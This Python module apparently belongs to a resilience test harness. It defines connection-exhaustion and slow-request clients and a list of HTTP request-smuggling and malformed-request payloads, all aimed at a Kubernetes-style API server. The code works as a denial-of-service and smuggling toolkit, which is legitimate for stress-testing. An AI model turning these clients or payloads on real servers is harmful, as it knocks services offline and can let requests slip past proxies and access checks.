"""Clients that do not read, do not finish, or come in great numbers; each bounded in count and time.

Every function leaves its connections open until `seconds` are over, so that the monitor sees what they cost.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import Awaitable, Callable

from attack.bombs.building import CORE
from attack.servers import NOBODY
from attack.wire import ADMIN, HOST, Request, ask, client_tls

MEGABYTE = 1024 * 1024


async def fill(port: int, megabytes: int) -> None:
    """Store config maps of one megabyte less a little, to be listed and watched."""
    body = {"metadata": {"labels": {"bulk": "yes"}}, "data": {"a": "x" * 1_000_000}}
    for number in range(megabytes):
        body["metadata"]["name"] = f"bulk{number}"  # type: ignore[index]
        await ask(
            port,
            Request(
                "POST", f"{CORE}/configmaps", {"Content-Type": "application/json"}, json.dumps(body).encode()
            ),
            client_tls(),
        )


async def drain(port: int) -> None:
    """Remove what `fill` stored."""
    await ask(port, Request("DELETE", f"{CORE}/configmaps?labelSelector=bulk%3Dyes"), client_tls())


async def _open(port: int, data: bytes) -> asyncio.StreamWriter | None:
    """Connect and send; never read: the receive buffer is as small as the system allows."""
    try:
        async with asyncio.timeout(20):
            _, writer = await asyncio.open_connection(HOST, port, ssl=client_tls(), limit=1024)
        transport = writer.transport
        transport.pause_reading()
        writer.write(data)
        return writer
    except (OSError, TimeoutError):
        return None


async def _many(port: int, pieces: list[bytes], seconds: float) -> int:
    """Open connections in groups, wait, drop them; returns how many were accepted."""
    opened: list[asyncio.StreamWriter] = []
    try:
        for start in range(0, len(pieces), 50):
            found = await asyncio.gather(*(_open(port, piece) for piece in pieces[start : start + 50]))
            opened += [each for each in found if each is not None]
        await asyncio.sleep(seconds)
        return len(opened)
    finally:
        for each in opened:
            with contextlib.suppress(Exception):
                each.transport.abort()


async def unread_watches(port: int, seconds: float) -> int:
    """Watch a large collection from the beginning and read nothing."""
    request = Request("GET", f"{CORE}/configmaps?watch=1&labelSelector=bulk%3Dyes").encode()
    return await _many(port, [request] * 30, seconds)


async def unread_lists(port: int, seconds: float) -> int:
    """List a large collection and read nothing."""
    request = Request("GET", f"{CORE}/configmaps?labelSelector=bulk%3Dyes").encode()
    return await _many(port, [request] * 30, seconds)


async def unread_pipelines(port: int, seconds: float) -> int:
    """Ask for large objects again and again on one connection and read nothing."""
    request = Request("GET", f"{CORE}/configmaps/bulk0").encode() * 200
    return await _many(port, [request] * 20, seconds)


async def slow_bodies(port: int, seconds: float) -> int:
    """Send heads of large requests and all of the body but its last byte, as nobody known."""
    size = 3 * MEGABYTE - 100
    head = Request("POST", f"{CORE}/configmaps", {"Content-Type": "application/json"}, b"", "").encode()
    head = head.replace(b"Content-Length: 0", b"Content-Length: %d" % size)
    return await _many(port, [head + b"x" * (size - 1)] * 200, seconds)


async def slow_bodies_of_users(port: int, seconds: float) -> int:
    """Send the same as a user without rights."""
    size = 3 * MEGABYTE - 100
    head = Request("POST", f"{CORE}/configmaps", {"Content-Type": "application/json"}, b"", NOBODY).encode()
    head = head.replace(b"Content-Length: 0", b"Content-Length: %d" % size)
    return await _many(port, [head + b"x" * (size - 1)] * 200, seconds)


async def slow_chunks(port: int, seconds: float) -> int:
    """Send a chunked body that does not end."""
    head = b"POST /api/v1/namespaces HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Type: application/json\r\n\r\n"
    chunk = b"%x\r\n%b\r\n" % (MEGABYTE, b"x" * MEGABYTE)
    return await _many(port, [head + chunk + chunk] * 100, seconds)


async def half_heads(port: int, seconds: float) -> int:
    """Begin heads and do not end them."""
    return await _many(port, [b"GET /livez HTTP/1.1\r\nHost: a\r\nX-A: " + b"a" * 60_000] * 300, seconds)


async def idle_connections(port: int, seconds: float) -> int:
    """Connect and say nothing."""
    return await _many(port, [b""] * 1_500, seconds)


async def handshakes(port: int, seconds: float) -> int:
    """Begin TLS and do not go on; send what is not TLS."""
    opened = []
    for number in range(600):
        with contextlib.suppress(OSError, TimeoutError):
            async with asyncio.timeout(5):
                _, writer = await asyncio.open_connection(HOST, port)
            writer.write(b"\x16\x03\x01\x02\x00\x01" if number % 2 else b"GET / HTTP/1.1\r\n\r\n")
            opened.append(writer)
    await asyncio.sleep(seconds)
    for writer in opened:
        writer.transport.abort()
    return len(opened)


async def smuggling(port: int, seconds: float) -> int:
    """Send framing that two readers could read in two ways, and nonsense."""
    token = f"Authorization: Bearer {ADMIN}\r\n".encode()
    heads = (
        b"POST /api HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
        b"POST /api HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x HTTP/1.1\r\n\r\n",
        b"POST /api HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\nx",
        b"POST /api HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\nx", b"GET /api HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n",
        b"GET /api HTTP/9.9\r\nHost: a\r\n\r\n", b"GET /api\r\n\r\n", b"\r\n\r\n\r\n", b"\x00" * 1_000, b"GET http://127.0.0.1:1/api HTTP/1.1\r\nHost: a\r\n\r\n",
        b"GET //evil HTTP/1.1\r\nHost: a\r\n\r\n", b"CONNECT 127.0.0.1:1 HTTP/1.1\r\nHost: a\r\n\r\n", b"OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n", b"TRACE / HTTP/1.1\r\nHost: a\r\n\r\n",
        b"GET /api HTTP/1.1\r\nHost: a\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAA\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"GET /api HTTP/1.1\r\nHost: a\r\n" + token + b"Upgrade: websocket\r\nConnection: Upgrade\r\n\r\n", b"GET /api HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\n\r\n",
        b"POST /api/v1/namespaces HTTP/1.1\r\nHost: a\r\n" + token + b"Content-Encoding: gzip\r\nContent-Length: 3\r\n\r\nabc",
        b"GET /api HTTP/1.1\r\n" + b"".join(b"A%d: b\r\n" % n for n in range(20_000)) + b"\r\n", b"GET /\xff\xfe HTTP/1.1\r\nHost: a\r\n\r\n", b"GET / HTTP/1.1\r\nHost : a\r\n\r\n",
        b"GET /api HTTP/1.1\r\nHost: a\r\n b\r\n\r\n", b"HEAD /api/v1/nodes HTTP/1.1\r\nHost: a\r\n" + token + b"\r\n", b"GET /api HTTP/1.1\nHost: a\n\n",
    )  # fmt: skip
    return await _many(port, [*heads] * 3, min(seconds, 3.0))


Client = Callable[[int, float], Awaitable[int]]
CLIENTS: dict[str, Client] = {
    each.__name__.replace("_", " "): each
    for each in (
        unread_watches, unread_lists, unread_pipelines, slow_bodies, slow_bodies_of_users, slow_chunks, half_heads, idle_connections,
        handshakes, smuggling,
    )
}  # fmt: skip
BULK = ("unread watches", "unread lists", "unread pipelines")  # these need something large to read
